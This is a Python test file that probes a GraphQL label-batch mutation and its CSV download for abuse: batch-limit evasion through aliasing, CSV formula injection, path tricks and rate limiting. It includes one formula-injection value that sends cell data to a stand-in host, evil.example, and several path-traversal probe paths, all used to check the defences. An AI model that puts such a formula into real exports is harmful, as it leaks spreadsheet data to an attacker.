"""Hostile review of `requestLabels` and the label CSV (SPEC §10, §11).

One document may hold up to 100 aliased mutations: without a bound per request, one POST
could ask for 100 batches of 100,000 codes (ten million rows) for the cost of a few points.
The bound is per request: all the labels one document asks for together, at most MAX_BATCH."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select, update

from catalog.models import Product
from kernel.db import Database
from kernel.ratelimit import MemoryBucket
from licensing import label_batches
from licensing.label_models import LabelCode
from storefront.label_downloads import CSV_COST
from tests.graphql.conftest import Gql, World, gid

TWICE = """mutation($a: RequestLabelsInput!, $b: RequestLabelsInput!) {
  first: requestLabels(input: $a) { labelBatch { quantity } errors { field code } }
  second: requestLabels(input: $b) { labelBatch { quantity } errors { field code } } }"""
ONE = """mutation($a: RequestLabelsInput!) {
  requestLabels(input: $a) { labelBatch { id csvUrl } errors { field code } } }"""


async def _codes(db: Database) -> int:
    async with db.read_session() as session:
        return int(await session.scalar(select(func.count()).select_from(LabelCode)))


async def test_aliased_requests_in_one_document_share_one_batch_limit(
    gql: Gql, world: World, db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    # given a batch limit of 10 (100,000 in production)
    monkeypatch.setattr(label_batches, "MAX_BATCH", 10)
    ask = {"productId": gid("Product", world.a.approved_id), "quantity": 8}
    # when one document asks twice for 8
    body = await gql(TWICE, {"a": ask, "b": ask}, token=world.a.token)
    # then the first is made and the second refused: 16 > 10 in one request
    assert "errors" not in body, body
    assert body["data"]["first"] == {"labelBatch": {"quantity": 8}, "errors": []}
    assert body["data"]["second"]["labelBatch"] is None
    assert body["data"]["second"]["errors"] == [{"field": "quantity", "code": "TOO_MANY_LABELS"}]
    assert await _codes(db) == 8
    # and a later request may ask again
    again = await gql(
        TWICE, {"a": {**ask, "quantity": 2}, "b": {**ask, "quantity": 8}}, token=world.a.token
    )
    assert [again["data"][k]["errors"] for k in ("first", "second")] == [[], []]
    assert await _codes(db) == 18


async def test_a_product_name_or_sku_that_is_a_formula_is_text_in_the_label_csv(
    gql: Gql, world: World, db: Database, client
) -> None:
    async with db.session() as session:
        await session.execute(
            update(Product)
            .where(Product.id == world.a.approved_id)
            .values(name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
        )
    body = await gql(
        ONE,
        {"a": {"productId": gid("Product", world.a.approved_id), "quantity": 2}},
        token=world.a.token,
    )
    assert body["data"]["requestLabels"]["errors"] == [], body
    url = body["data"]["requestLabels"]["labelBatch"]["csvUrl"]
    path = url if url.startswith("/") else "/" + url.split("/", 3)[3]
    response = await client.get(path, headers={"Authorization": f"Bearer {world.a.token}"})
    assert response.status_code == 200, (url, response.text)
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows and all(row["product"].startswith("'=") for row in rows)
    # another merchant's token, and a path that is not an id, are the same 404
    other = await client.get(path, headers={"Authorization": f"Bearer {world.b.token}"})
    assert other.status_code == 404
    for odd in (
        "/labels/batches/..%2F1.csv",
        "/labels/batches/%EF%BC%91.csv",
        "/labels/batches/99999999999999999999999.csv",
        "/labels/batches/-1.csv",
    ):
        response = await client.get(odd, headers={"Authorization": f"Bearer {world.a.token}"})
        assert response.status_code == 404, odd


async def test_csv_downloads_with_a_token_spend_its_budget(gql: Gql, world: World, client) -> None:
    body = await gql(
        ONE,
        {"a": {"productId": gid("Product", world.a.approved_id), "quantity": 2}},
        token=world.a.token,
    )
    path = body["data"]["requestLabels"]["labelBatch"]["csvUrl"]
    client._transport.app.state.budget = MemoryBucket(capacity=2 * CSV_COST, rate=0.001)
    mine = {"Authorization": f"Bearer {world.a.token}"}
    assert [(await client.get(path, headers=mine)).status_code for _ in range(2)] == [200, 200]
    refused = await client.get(path, headers=mine)
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
    assert "code,sku" not in refused.text
    staff = await client.get(path, headers={"Authorization": f"Bearer {world.staff_token}"})
    assert staff.status_code == 200
